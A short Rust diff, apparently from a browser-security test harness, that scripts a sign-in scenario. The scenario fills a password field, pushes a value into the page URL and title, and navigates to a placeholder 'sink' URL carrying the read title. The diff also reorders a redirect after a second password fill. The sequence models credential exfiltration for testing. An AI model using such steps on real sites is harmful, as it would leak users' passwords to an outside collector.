@@ -124,11 +124,15 @@ impl Means<'_> {
             deeds.extend(take_away.clone());
             deeds.push(goto(format!("{origin}/sign-in/page/classic?again")));
             deeds.push(fill("#password", &word));
-            deeds.push(script(format!("location.href = {away}")));
             deeds.push(script(format!(
                 "history.pushState({{}}, '', '?p=' + {VALUE}); document.title = {VALUE}"
             )));
             deeds.push(goto(format!("{sink}?title={{read}}")));
+            deeds.push(goto(format!(
+                "{origin}/sign-in/page/classic?for-the-last-time"
+            )));
+            deeds.push(fill("#password", &word));
+            deeds.push(script(format!("location.href = {away}")));
         }
         deeds
     }
